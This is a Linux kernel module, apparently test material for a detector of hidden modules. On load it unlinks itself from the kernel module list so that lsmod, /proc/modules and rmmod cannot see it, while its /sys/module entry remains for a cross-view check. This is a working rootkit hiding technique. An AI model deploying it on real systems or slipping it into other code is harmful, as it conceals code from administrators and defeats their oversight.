// SPDX-License-Identifier: GPL-2.0
/*
 * hide_module: unlinks itself from the kernel's module list while it loads, so it is gone
 * from /proc/modules and lsmod, and rmmod no longer finds it. Its kobject stays:
 * /sys/module/hide_module still exists, which is what a cross-view checker compares against.
 *
 *   insmod hide_module.ko
 */
#include <linux/module.h>
#include <linux/rculist.h>

static int __init hide_module_init(void)
{
	/*
	 * module_mutex is not exported; the loader holds no list lock while init runs, and
	 * readers walk the list under RCU, so an RCU unlink is what a rootkit gets away with.
	 * The entry is never freed (nothing can find the module to unload it).
	 */
	list_del_rcu(&THIS_MODULE->list);
	pr_info("hide_module: removed from the module list; /sys/module/%s stays\n",
		THIS_MODULE->name);
	return 0;
}

module_init(hide_module_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("spumone test attack: hide this module from the module list");
